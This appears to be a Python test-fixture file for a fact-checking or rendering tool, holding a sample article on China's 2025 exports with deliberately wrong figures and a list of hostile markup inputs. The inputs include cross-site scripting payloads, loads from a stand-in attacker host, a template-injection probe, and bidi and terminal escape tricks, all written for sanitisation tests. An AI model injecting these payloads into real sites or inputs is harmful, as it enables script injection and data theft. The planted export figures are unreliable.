"""Texts to check, written for the tests: right and wrong figures of the record, and markup that means harm."""

from __future__ import annotations

ARTICLE = """\
# Shipments end the year strongly

Published 14 January 2026

China's exports rose 9.6 per cent in US dollars in December from a year before, customs said. Imports rose 5.7 per
cent. Economists polled by Bloomberg had expected exports to grow 3.1 per cent.

For all of 2025, exports grew 6.1 per cent in dollar terms, while the trade surplus reached **\\$1.19 trillion**. The
share of the [United States](http://example.org/us) in China's exports was 11.1 per cent in 2025.

The unemployment rate of Dalian was 4.1 per cent in 2025.
"""
"""One false claim (December: 6.6), one in another currency (2025: 5.5 in dollars, 6.1 in yuan), the others right."""

CONFLICT = """\
China's exports were worth $300bn in November 2025. In November 2025 China's exports came to $200bn.
"""

HOSTILE = (
    "<script>document.title='owned'</script>",
    "</script><script>document.title='owned'</script>",
    "<img src=x onerror=\"document.title='owned'\">",
    "<img src='http://attacker.example/a.png'>",
    "<svg onload=\"document.title='owned'\"><circle r=9 /></svg>",
    "<svg><script href='http://attacker.example/a.js'></script></svg>",
    "<a href=\"javascript:document.title='owned'\">exports rose 6.6 per cent in December 2025</a>",
    "[exports rose 6.6 per cent in December 2025](javascript:document.title='owned')",
    "<a href='data:text/html,<script>parent.document.title=1</script>'>China</a>",
    "<iframe src='data:text/html,<script>top.document.title=1</script>'></iframe>",
    "<iframe srcdoc=\"<script>top.document.title='owned'</script>\"></iframe>",
    "<div style=\"background:url('http://attacker.example/b.png');width:expression(document.title='owned')\">x</div>",
    "<style>@import 'http://attacker.example/c.css'; body{display:none}</style>",
    "<link rel=stylesheet href=http://attacker.example/d.css><meta http-equiv=refresh content='0;url=http://e.example'>",
    "<base href='http://attacker.example/'><form action='http://attacker.example/f'><input autofocus onfocus=alert(1)>",
    "<video src=http://attacker.example/v autoplay onloadstart=alert(1)></video><object data=http://attacker.example/o>",
    "<details open ontoggle=\"document.title='owned'\"><summary>s</summary></details>",
    "\"><body onload=\"document.title='owned'\"> '\" onmouseover=alert(1) x='",
    "<!--><script>document.title='owned'</script>-->",
    "<![CDATA[<script>document.title='owned'</script>]]>",
    "{{ 7 * 191 }} {% raw %} {{ cycler.__init__.__globals__ }} {# gone #} ${7*191} #{7*191}",
    "&lt;script&gt;document.title='owned'&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62;",
    "exports \u202erose 6.6 per cent\u202c in \u2066December\u2069 2025 \u200fand so on",
    "\x00\x1b]0;owned\x07\x1b[2J\ud800 exports rose 6.6 per cent in December 2025",
    "China's exports rose <b onclick=alert(1)>6.6</b><script>1</script> per cent in December 2025.",
)
"""Each is followed by a claim, so that it stands in a quote, a reason or a correction, too."""

CLAIM = "China's exports rose 9.6 per cent in dollar terms in December 2025{}, customs said."


def hostile() -> str:
    """All of them in one text."""
    parts = [f"{one}\n\n{CLAIM.format(' ' + one)}\n" for one in HOSTILE]
    return "Published 14 January 2026\n\n" + "\n".join(parts)
